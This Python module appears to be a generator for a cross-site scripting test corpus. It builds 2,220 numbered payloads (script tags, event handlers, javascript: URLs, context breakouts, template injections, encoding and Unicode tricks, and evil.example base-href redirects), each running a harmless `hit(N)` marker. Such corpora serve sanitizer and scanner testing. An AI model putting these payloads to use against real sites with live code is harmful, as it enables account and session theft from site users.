"""2,220 ways of writing markup and script into text, made by rule, each with a number of its own.

What runs calls `hit(NUMBER)`. Shapes are those of published collections of such strings: script
elements, elements with handlers, addresses with a scheme that runs, ways out of an attribute, a
comment or an element that holds text, templates, and words that browsers read anew.
"""

from __future__ import annotations

import random
from collections.abc import Iterator
from itertools import product

COUNT = 2220

_OUT = ("", '">', "'>", "-->", "]]>", "</title>", "</textarea>", "</script>", "</style>", "</q>")
"""Ways out of where a text may stand."""
_ELEMENTS = (
    "img src=x",
    "svg",
    "body",
    "video src=x",
    "audio src=x",
    "details open",
    "input autofocus",
    "select autofocus",
    "textarea autofocus",
    "button autofocus",
    "iframe src=about:blank",
    "object data=x",
    "embed src=x",
    "marquee",
    "a href=# tabindex=0 autofocus",
    "form",
    "math",
    "x-own tabindex=0 autofocus",
)
_HANDLERS = (
    "onerror",
    "onload",
    "onfocus",
    "ontoggle",
    "onmouseover",
    "onanimationstart",
    "onstart",
    "onpointerenter",
)
_QUOTES = ('{n}="{code}"', "{n}='{code}'", "{n}={code}", "{n}\t=\n{code}", "/{n}={code}")
_SCRIPTS = (
    "<script>{code}</script>",
    "<ScRiPt>{code}</sCrIpT>",
    "<script\n>{code}</script\t>",
    "<script/x>{code}</script>",
    "<<script>{code}//<</script>",
    "<script type=module>{code}</script>",
    "<script src=data:text/javascript,{code}></script>",
    "<svg><script>{code}</script></svg>",
    "<math><style><img src=x onerror={code}></style></math>",
    "<scr<script>ipt>{code}</scr</script>ipt>",
    "<template><script>{code}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={code}>'>",
    "<xmp><p title='</xmp><img src=x onerror={code}>'>",
    "&lt;script&gt;{code}&lt;/script&gt;",
    "&#60;script&#62;{code}&#60;/script&#62;",
    "\\u003cscript\\u003e{code}\\u003c/script\\u003e",
    "%3Cscript%3E{code}%3C/script%3E",
    "+ADw-script+AD4-{code}+ADw-/script+AD4-",
    "\uff1cscript\uff1e{code}\uff1c/script\uff1e",
    "<script>{code}",
)
_ADDRESSES = (
    "javascript:{code}",
    "JaVaScRiPt:{code}",
    "java\tscript:{code}",
    "java\nscript:{code}",
    "\x01javascript:{code}",
    " javascript:{code}",
    "javascript&colon;{code}",
    "&#106;avascript:{code}",
    "data:text/html,<script>{code}</script>",
    "vbscript:{code}",
    "//evil.example/{code}",
    'https://evil.example/"onclick="{code}',
)
_IN = (
    "{address}",
    "<a href='{address}'>x</a>",
    "<iframe src='{address}'>",
    "<form action='{address}'>",
)
_REST = (
    "{{{{constructor.constructor('{code}')()}}}}",
    "${{{code}}}",
    "{{% print {code} %}}",
    "<%= {code} %>",
    "#{{{code}}}",
    "<style>@import 'javascript:{code}';</style>",
    "<p style='background:url(javascript:{code})'>",
    "<link rel=stylesheet href='data:text/css,*{{color:red}}' onload={code}>",
    "<meta http-equiv=refresh content='0;url=javascript:{code}'>",
    "<base href='https://evil.example/'><p id={code}>",
    "<form id=main name=body><input name=action value={code}></form>",
    "<img name=currentScript src=x onerror={code}>",
    "\u202e<script>{code}</script>\u202c",
    "\u2028<script>{code}</script>\u2029",
    "a\u0000<script>{code}</script>",
    "<!--[if IE]><script>{code}</script><![endif]-->",
    "<![CDATA[<script>{code}</script>]]>",
    "<?xml version='1.0'?><html xmlns='http://www.w3.org/1999/xhtml'><script>{code}</script></html>",
    "';{code};//",
    '";{code};//',
)


def _shapes() -> Iterator[str]:
    for shape, out in product(_SCRIPTS, _OUT):
        yield out + shape
    for shape, address in product(_IN, _ADDRESSES):
        yield shape.format(address=address)
    for shape, out in product(_REST, _OUT):
        yield out.replace("{", "{{") + shape
    # elements last: of all their combinations so many are taken as make the count
    for handler, element, quote, out in product(_HANDLERS, _ELEMENTS, _QUOTES, _OUT):
        yield f"{out}<{element} {quote.replace('{n}', handler)}>"


def payloads(count: int = COUNT) -> list[str]:
    """Return the strings; the first `count`, spread over all shapes."""
    shapes = list(dict.fromkeys(_shapes()))
    fixed = len(_SCRIPTS) * len(_OUT) + len(_IN) * len(_ADDRESSES) + len(_REST) * len(_OUT)
    made, many = shapes[:fixed], shapes[fixed:]
    wanted = COUNT - len(made)
    made += [many[n * len(many) // wanted] for n in range(wanted)]
    texts = [shape.replace("{code}", f"hit({n})") for n, shape in enumerate(made)]
    texts = [text.replace("{{", "{").replace("}}", "}") for text in texts]
    assert len(set(texts)) == COUNT
    return texts if count == COUNT else random.Random(count).sample(texts, count)
